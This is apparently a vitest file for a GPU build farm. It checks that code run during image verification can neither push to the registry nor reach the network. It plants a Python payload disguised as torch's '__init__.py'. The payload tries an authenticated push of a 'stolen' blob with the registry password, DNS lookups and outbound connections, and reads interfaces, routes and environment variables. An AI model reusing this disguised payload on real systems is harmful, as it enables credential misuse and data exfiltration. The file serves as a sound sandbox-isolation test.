import { afterAll, beforeAll, expect, it } from 'vitest'
import { createClient } from '../client.ts'
import { listenOnLoopback } from '../listen-on-loopback.ts'
import { file, glibcRoot, pythonRoot } from './kit/glibc-root.ts'
import { gpuImage } from './kit/gpu-image.ts'
import { nodeClasses } from './kit/node-classes.ts'
import { setGpuPolicy } from './kit/set-gpu-policy.ts'
import { type SimulatedFarm, startSimulatedFarm } from './kit/simulated-farm.ts'

let farm: SimulatedFarm
beforeAll(async () => {
  farm = await startSimulatedFarm(nodeClasses.a100)
  await setGpuPolicy(farm.url, { mode: 'require_gpu', wait_seconds: 60 })
})
afterAll(async () => farm[Symbol.asyncDispose]())

/**
 * A framework that uses its time to reach out, with the very password of the registry, and tells what came of it: `ok`,
 * or the kind of error. With sockets alone: what needs more libraries does not load here.
 */
const reachingOut = (login: string, registry: string, hosts: readonly string[]) => `
import os, socket
def attempt(what):
    try:
        what()
        return "ok"
    except Exception as error:
        return type(error).__name__
def connect(address):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), 3)
def push(headers):
    with connect("${registry}") as connection:
        start = "POST /v2/kiln/default/stolen/blobs/uploads/ HTTP/1.1\\r\\nHost: ${registry}\\r\\n"
        connection.sendall((start + headers + "Content-Length: 0\\r\\n\\r\\n").encode())
        connection.recv(100)
results = [
    attempt(lambda: push("")),
    attempt(lambda: push("Authorization: Basic ${login}\\r\\n")),
    attempt(lambda: socket.getaddrinfo("registry.npmjs.org", 443)),
    *[attempt(lambda: connect(address).close()) for address in ${JSON.stringify(hosts)}],
    ",".join(sorted(os.listdir("/sys/class/net"))),
    str(len(open("/proc/net/route").readlines()) - 1) + " routes",
    ",".join(name for name in sorted(os.environ) if "KILN" in name or "PROXY" in name.upper()) or "no variables",
]
raise ValueError(" ".join(results))
`

it('lets what an image runs under verification push nothing and reach nobody', async () => {
  let asked = 0
  await using server = await listenOnLoopback()
  server.on('connection', () => (asked += 1))
  const address = server.address()
  const { url, username, password } = farm.registry
  const registry = new URL(url).host
  const login = Buffer.from(`${username}:${password}`).toString('base64')
  const hosts = [
    `127.0.0.1:${typeof address === 'object' ? address?.port : ''}`,
    new URL(farm.url).host,
    registry,
    '10.213.0.1:53',
    '1.1.1.1:443',
  ]
  const known = new Set((await glibcRoot(farm.tools.probe)).map(({ header }) => header.name))
  const python = (await pythonRoot(farm.tools.probe)).filter(
    ({ header }) => !known.has(header.name),
  )
  const torch = file(
    '/usr/lib/python3/site-packages/torch/__init__.py',
    0o644,
    Buffer.from(reachingOut(login, registry, hosts)),
  )
  const image = await gpuImage(farm, {
    entries: [...python, torch],
    lines: ['ENV PYTHONPATH=/usr/lib/python3/site-packages'],
  })
  const client = createClient(farm.url)
  const id = await client.submit({ name: 'team/reaching:1', ...image })
  const done = await client.until(id, ({ status }) => status !== 'building', 300_000)
  const refused = 'ConnectionRefusedError ConnectionRefusedError gaierror'
  const unreached =
    'ConnectionRefusedError ConnectionRefusedError ConnectionRefusedError OSError OSError'
  expect(done.failure).toMatchObject({
    code: 'verification_failed',
    reasons: ['FRAMEWORK_FAILED'],
    message: expect.stringContaining(
      `ValueError: ${refused} ${unreached} lo 0 routes no variables`,
    ),
  })
  expect(asked).toBe(0)
  const stolen = await fetch(`${url}/v2/kiln/default/stolen/tags/list`, {
    headers: { authorization: `Basic ${login}` },
  })
  expect(stolen.status).toBe(404)
}, 400_000)
